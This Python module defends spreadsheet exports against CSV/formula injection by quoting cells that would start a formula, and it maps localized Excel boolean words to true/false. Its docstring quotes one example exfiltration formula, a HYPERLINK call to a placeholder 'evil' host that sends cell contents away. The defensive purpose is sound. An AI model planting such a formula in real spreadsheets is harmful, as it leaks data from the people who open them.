"""Text for spreadsheets: cells that show a value as written and are never run as a formula, and the words
a spreadsheet writes a boolean cell with.

What leaves as XLSX or CSV (query lists to centres, the public export) carries text that came from
exports, and a spreadsheet runs a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage
return (OWASP "CSV injection": `=HYPERLINK("http://evil/?"&A1)` sends a cell away when clicked). A
leading `'` makes such a cell text.

Gotcha of CSV: a cell does not start only where the writer put one. Excel and LibreOffice in the `;`
locales of most centres (or told to split on tabs) start a cell after every `;` or tab of a line, and
a row after every line break, quoted or not, so `x;=1+1;y` written as one comma-separated value runs
=1+1 there. A formula start after a `,`, `;`, tab or line break (and any quotes) inside the text gets a
`'` too. Nothing else is changed: a value without a formula start is written as it is.

Gotcha of booleans: a workbook stores a boolean cell as 1 or 0, and Excel shows it, and writes it to a CSV,
in the words of its language (German WAHR, French VRAI), as LibreOffice does in its locale's; a centre may
also type those words as text. What the pipeline writes of a boolean cell is Excel's English TRUE / FALSE
(EXCEL_BOOLEANS); what it takes for one, in any case, is the word of any language BOOLEAN_WORDS lists (the
fourteen of the Excel editions most European registries use; another's words are refused as before). No word
is one language's TRUE and another's FALSE.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A separator or line break, the quotes a CSV writer doubles, then a formula start.
_CELL_START_INSIDE = re.compile(r"([,;\t\r\n]\"*)(?=[=+\-@\t\r])")

#: a boolean cell as the pipeline writes it: English Excel's words
EXCEL_BOOLEANS = {True: "TRUE", False: "FALSE"}
#: a boolean's words in Excel's editions (LibreOffice's are the same), upper case: English, German, French,
#: Italian, Spanish, Portuguese, Dutch, Swedish, Danish, Norwegian, Finnish, Polish, Czech, Hungarian
BOOLEAN_WORDS: dict[str, bool] = {
    word: value
    for value, words in ((True, "TRUE WAHR VRAI VERO VERDADERO VERDADEIRO WAAR SANT SAND SANN TOSI PRAWDA PRAVDA "
                                "IGAZ"),
                         (False, "FALSE FALSCH FAUX FALSO ONWAAR FALSKT FALSK USANN EPÄTOSI FAŁSZ NEPRAVDA HAMIS"))
    for word in words.split()
}


def spreadsheet_text(value: object) -> str:
    """`value` as text a spreadsheet shows as it is and never evaluates, however it splits the line."""
    text = _CELL_START_INSIDE.sub(r"\1'", "" if value is None else str(value))
    return "'" + text if text.startswith(FORMULA_START) else text


def spreadsheet_boolean(text: str) -> bool | None:
    """The boolean `text` is a word of in some spreadsheet's language (BOOLEAN_WORDS), in any case and with
    blanks around it; None: no such word."""
    return BOOLEAN_WORDS.get(text.strip().upper())
